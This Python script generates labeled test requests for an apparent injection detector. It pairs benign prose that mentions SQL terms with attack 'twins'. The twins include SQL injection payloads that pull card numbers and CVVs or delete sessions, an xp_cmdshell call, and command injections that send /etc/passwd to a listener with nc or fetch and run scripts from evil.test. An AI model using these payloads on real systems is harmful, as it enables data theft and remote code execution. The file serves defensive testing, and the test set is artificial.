#!/usr/bin/env python3
"""Hand-written prose and attacks-in-prose, none of them shapes the prose
reading was built on (see prose_cases.py for the generated ones), each in a
JSON field and a query value.

Usage: prose_unseen_cases.py OUT.jsonl
"""
import json, urllib.parse, sys
H=[["Host","api.example.test"],["User-Agent","Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"],["Accept","application/json"],["Content-Type","application/json"]]
prose = [
 "Can someone explain why SELECT * is bad practice? My team lead says to always list columns.",
 "Hey! Drop table tennis practice tonight; coach is sick -- we'll update the group chat later.",
 "Delete from favourites didn't work for me, I had to log out and in again.",
 "The recipe says: 2 cups flour; 1 or 2 eggs = enough for 12 pancakes. Enjoy!",
 "I'm using PostgreSQL and the query is slow when I join orders and customers on email; any tips?",
 "Reminder: union meeting at 5pm; select a representative before Friday.",
 "Just run `npm install` and then `npm start` -- that's all you need to do.",
 "My son's name is D'Artagnan and your form rejects the apostrophe, please fix it.",
 "We should sleep(1) between retries, but honestly a queue would be better here.",
 "Order status: shipped; tracking number 1Z999AA10123456784, delivery expected 3 or 4 days.",
 "Please update the address to 10 Downing St; the old one (221B Baker St) is wrong.",
 "Where's the 'Export' button? I selected 'All time' but nothing happens when I click it.",
 "If you're comparing values in SQL, remember NULL = NULL is not true; use IS NULL instead.",
 "Use ORDER BY created_at DESC LIMIT 10 to get the latest rows, it's faster with an index.",
 "cd into the repo, then git pull && cargo test -- that should fix the build for you.",
 "haha my cat just walked on the keyboard and typed ;;;; drop everything lol",
 "To reset your password select 'Forgot password' on the login page; a link will be emailed.",
 "Is 1=1 always true in every SQL dialect? Asking for my database class homework.",
 "Bonjour, je voudrais annuler ma commande; merci de me rembourser -- cordialement, Zoë",
 "Our API returns 500 when the name contains a quote like O'Neil; can you update the parser?",
]
twins = [
 "Love it' UNION SELECT card_number, cvv FROM payments--",
 "thanks for the help'; DELETE FROM sessions WHERE 1=1--",
 "Hi there' OR 'x'='x",
 "nice post' AND 1=CONVERT(int,(SELECT @@version))--",
 "awesome work')) UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables#",
 "good morning team; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
 "see attached file' and sleep(10)#",
 "please check my order; cat /etc/passwd | nc 10.0.0.1 4444",
 "hello world $(curl http://evil.test/x.sh | sh) thanks",
 "thanks `wget http://evil.test/a -O /tmp/a` bye",
]
out=open(sys.argv[1],'w')
def emit(i, text, attack, kind):
    for place in ('json','query'):
        r=dict(id=f"unseen-{kind}-{i}-{place}", method="POST" if place=='json' else "GET", path="/api/v1/comments", query="", request_headers=H)
        if place=='json': r['request_body']=json.dumps({"body":text})
        else: r['query']="q="+urllib.parse.quote(text,safe='')
        r['label']={"attack":attack,"category":kind}
        out.write(json.dumps(r)+"\n")
for i,t in enumerate(prose): emit(i,t,False,'prose')
for i,t in enumerate(twins): emit(i,t,True,'twin')
